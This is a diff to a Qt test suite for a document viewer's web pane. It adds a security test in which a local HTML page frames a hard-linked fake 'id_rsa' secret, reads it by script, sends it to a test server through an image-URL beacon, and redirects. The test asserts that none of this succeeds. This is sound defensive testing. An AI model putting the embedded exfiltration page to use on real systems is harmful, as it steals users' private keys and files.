@@ -5,6 +5,7 @@
 #include "core/Common.h"
 #include "docs/AboutFrm.h"
 #include "docs/DocumentPane.h"
+#include "docs/LocalPages.h"
 #include "platform/Error.h"
 #include "rtf/RtfReader.h"
 
@@ -18,6 +19,7 @@
 #include <QMessageBox>
 #include <QPointer>
 #include <QProgressBar>
+#include <QSignalSpy>
 #include <QPushButton>
 #include <QStandardPaths>
 #include <QTcpServer>
@@ -215,6 +217,7 @@ private Q_SLOTS:
     void longRunsGetBreaks_data();
     void longRunsGetBreaks();
     void localPageHasNoLocalRights();
+    void pageReadsNoFrameAndStays();
     void pageStartsNoDownload();
     void localRequests_data();
     void localRequests();
@@ -471,7 +474,7 @@ void TestDocs::documentSet()
         QWebEngineView *browser = pane->WebBrowser();
         if (front == QLatin1String("html")) {
             QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Local Page"), HangMs);
-            QCOMPARE(browser->url(), QUrl::fromLocalFile(base() + html));
+            QCOMPARE(browser->url(), localpages::pageUrl(base() + html));
         } else {
             QTRY_COMPARE_WITH_TIMEOUT(browser->title(), QStringLiteral("Page A"), HangMs);
             QCOMPARE(browser->url(), QUrl(address));
@@ -636,7 +639,7 @@ void TestDocs::aboutMissingHtml()
     QTest::mouseClick(button(&about, "sbtnHome"), Qt::LeftButton);
 
     QVERIFY(pane->WebBrowser());
-    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->url(), QUrl::fromLocalFile(missing), HangMs);
+    QTRY_COMPARE_WITH_TIMEOUT(pane->WebBrowser()->url(), localpages::pageUrl(missing), HangMs);
     QVERIFY(textInFront(pane));
 }
 
@@ -1000,6 +1003,39 @@ void TestDocs::localPageHasNoLocalRights()
     QCOMPARE(m_server->hits(QStringLiteral("/pic.png")), 1);
 }
 
+void TestDocs::pageReadsNoFrameAndStays()
+{
+    // A ReadMe page puts a file of its own folder in a frame (a hard link to a secret kept
+    // elsewhere), reports to the server whether it could read it, then moves the view by script.
+    QTemporaryDir home;
+    writeFile(home.filePath(QStringLiteral("id_rsa")), "SECRET");
+    QCOMPARE(::link(QFile::encodeName(home.filePath(QStringLiteral("id_rsa"))).constData(),
+                    QFile::encodeName(base() + QStringLiteral("key.txt")).constData()), 0);
+    writeFile(base() + QStringLiteral("Frame.html"),
+              QStringLiteral("<html><body><iframe id=f src='key.txt'></iframe><script>"
+                             "window.onload = () => { let t = '';"
+                             "  try { t = document.getElementById('f').contentDocument.body"
+                             "    .innerText; } catch (e) {}"
+                             "  new Image().src = '%1' + (t ? 'leak?' + t : 'clean');"
+                             "  location.href = '%2'; };</script></body></html>")
+                  .arg(m_server->url(QStringLiteral("/")), m_server->url(QStringLiteral("/b")))
+                  .toUtf8());
+    auto pane = makePane();
+    pane->DisplayFName(base(), QString(), QStringLiteral("Frame.html"), QString());
+    QWebEngineView *browser = pane->WebBrowser();
+    QSignalSpy refused(browser->page(), SIGNAL(navigationRefused(QUrl)));
+
+    const auto reported = [this] {
+        return m_server->hits(QStringLiteral("/leak")) + m_server->hits(QStringLiteral("/clean"));
+    };
+    QTRY_VERIFY_WITH_TIMEOUT(reported() > 0 && (refused.count() > 0 ||
+                                                 m_server->hits(QStringLiteral("/b")) > 0),
+                             60000);
+    QCOMPARE(m_server->hits(QStringLiteral("/leak")), 0);
+    QCOMPARE(m_server->hits(QStringLiteral("/b")), 0);
+    QCOMPARE(browser->url().fileName(), QStringLiteral("Frame.html"));
+}
+
 void TestDocs::onlyWebAddressesOpen_data()
 {
     QTest::addColumn<QString>("address");
@@ -1051,7 +1087,7 @@ void TestDocs::localRequests_data()
     QTest::newRow("image beside")        << page << "Opt/pic.png"       << int(I::ResourceTypeImage) << true;
     QTest::newRow("style sheet below")   << page << "Opt/css/s.css"     << int(I::ResourceTypeStylesheet) << true;
     QTest::newRow("script beside")       << page << "Opt/s.js"          << int(I::ResourceTypeScript) << true;
-    QTest::newRow("frame beside")        << page << "Opt/Before.txt"    << int(I::ResourceTypeSubFrame) << true;
+    QTest::newRow("frame beside")        << page << "Opt/pic.png"       << int(I::ResourceTypeSubFrame) << false;
     QTest::newRow("fetch beside")        << page << "Opt/ReadMe.txt"    << int(I::ResourceTypeXhr) << false;
     QTest::newRow("worker beside")       << page << "Opt/s.js"          << int(I::ResourceTypeWorker) << false;
     QTest::newRow("image above")         << page << "top.png"           << int(I::ResourceTypeImage) << false;
